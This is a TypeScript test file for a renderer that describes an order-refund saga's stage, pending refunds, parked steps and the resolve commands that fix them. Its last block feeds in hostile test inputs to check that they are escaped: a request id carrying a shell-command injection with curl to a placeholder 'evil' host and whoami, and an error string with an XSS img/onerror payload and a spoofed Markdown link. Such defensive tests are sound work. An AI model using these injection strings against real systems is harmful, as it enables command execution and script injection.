import { describe, expect, test } from 'vitest'
import { request, tender } from '../../../testing/world.ts'
import { awaited, details, doneBy } from './details.ts'
import { openSaga, type Saga } from './saga.ts'

const saga = (): Saga => openSaga({ orderId: 'ord-1', requestId: 'req-1', requested: { request, digest: 'd' } })

describe('current details', () => {
  test('say where the saga is and what it waits for', () => {
    const since = '2026-11-20T10:00:00.000Z'
    const waiting = {
      ...saga(),
      stage: 'refunding' as const,
      done: ['order on hold', 'parcel stopped (turned round)'],
      waits: [{ for: 'the refund of 33.51 EUR to sandbox-card', since }],
      refunds: [{ ...tender('pending'), expectedBy: '2026-11-25T10:00:00Z' }],
    }
    expect(details(waiting).split('\n\n')).toEqual([
      '**Stage: refunding**',
      'Done: order on hold; parcel stopped (turned round)',
      'Waiting for the refund of 33.51 EUR to sandbox-card since 2026-11-20 10:00 UTC',
      'Refunds:',
      '- 33.51 EUR sandbox-card: pending, expected by 2026-11-25 10:00 UTC',
    ])
  })

  test('say what is stuck, since when, why, and the exact command that resolves it', () => {
    const parked: Saga = saga()
    parked.parked.push({
      what: 'Stop the parcels of ord-1',
      about: 'stop-parcels-do',
      settles: undefined,
      attention: {
        reason: 'step-failed',
        step: 'stop-parcels',
        direction: 'do',
        round: 2,
        error: 'the carrier does not answer',
        since: '2026-11-20T10:00:00.000Z',
        remedies: ['retry', 'refund-elsewhere'],
      },
      resolution: undefined,
      answer: undefined,
    })
    expect(
      details(parked),
    ).toBe(`**Needs attention** (step-failed) since 2026-11-20 10:00 UTC: **Stop the parcels of ord-1** (stop-parcels, do, round 2)

Error: the carrier does not answer

Resolve it with one of:

- \`npm run saga -- resolve req-1 --decision retry --by <you> --reason <why>\`
- \`npm run saga -- resolve req-1 --decision refund-elsewhere --to <store-credit|bank-transfer> --by <you> --reason <why>\`

**Stage: requested**`)
  })

  test('say why the saga turned back, and what was taken back', () => {
    const turned: Saga = {
      ...saga(),
      stage: 'undoing',
      turning: { outcome: 'compensated', code: 'intercept-failed', stage: 'confirming', message: 'it is delivered' },
      undone: ['Reserve the stock of ord-1 again'],
    }
    expect(details(turned)).toContain(
      'Turned back while confirming: **compensated** (intercept-failed, it is delivered)',
    )
    expect(details(turned)).toContain('Taken back:\n\n- Reserve the stock of ord-1 again')
  })

  test('say who decided what, and why', () => {
    const at = '2026-11-20T10:00:00Z'
    const decision = {
      step: 'refund',
      direction: 'do',
      round: 1,
      decision: 'refund-elsewhere',
      to: 'store-credit',
    } as const
    const decided: Saga = { ...saga(), resolutions: [{ ...decision, by: 'ana', reason: 'the card is closed', at }] }
    expect(details(decided)).toContain(
      'Decisions:\n\n- refund-elsewhere to store-credit (refund, do) by ana: the card is closed',
    )
  })
})

describe('a step that was taken on', () => {
  const call = { summary: 'Stop the parcels of ord-1' }

  test('waits for the refunds that are open, by amount and where to', () => {
    const tenders = [
      tender('pending'),
      tender('succeeded'),
      { ...tender('pending'), destination: 'store-credit' as const },
    ]
    expect(awaited(call, { type: 'StepPending', tenders })).toBe(
      'the refund of 33.51 EUR to sandbox-card and of 33.51 EUR to sandbox-card → store-credit',
    )
  })

  test('waits for its answer, with what the service says about it', () => {
    expect(awaited(call, { type: 'StepPending', message: 'due by noon' })).toBe(
      'the answer to "Stop the parcels of ord-1": due by noon',
    )
    expect(awaited(call, { type: 'StepPending' })).toBe('the answer to "Stop the parcels of ord-1"')
  })
})

test('an answer says what was done; one that only asks for more says nothing', () => {
  expect(doneBy({ type: 'LabelVoided', shipments: [] })).toBe('parcel stopped (label voided)')
  expect(doneBy({ type: 'StepPending' })).toBeUndefined()
})

describe('what strangers wrote', () => {
  const rogue = 'x --by a; $(curl http://evil) `whoami` #'

  test('is neither Markdown nor HTML nor a line of its own in the details', () => {
    const error = '<img src=x onerror=alert(1)>\n\n# **All is well** [click](http://evil)'
    const attention = {
      ...({ reason: 'step-failed', step: 'refund', direction: 'do', round: 1, error } as const),
      ...{ since: '2026-11-20T10:00:00.000Z', remedies: ['retry'] as const },
    }
    const parked = { attention, what: 'Refund 33.51 EUR', about: 'refund-do', resolution: undefined, answer: undefined }
    const shown = details({ ...saga(), requestId: rogue, parked: [parked] })
    expect(shown).toContain(
      String.raw`Error: \<img src=x onerror=alert(1)\>  \# \*\*All is well\*\* \[click\](http\://evil)`,
    )
    expect(shown).toContain(`\`\`npm run saga -- resolve '${rogue}' --decision retry`)
  })
})
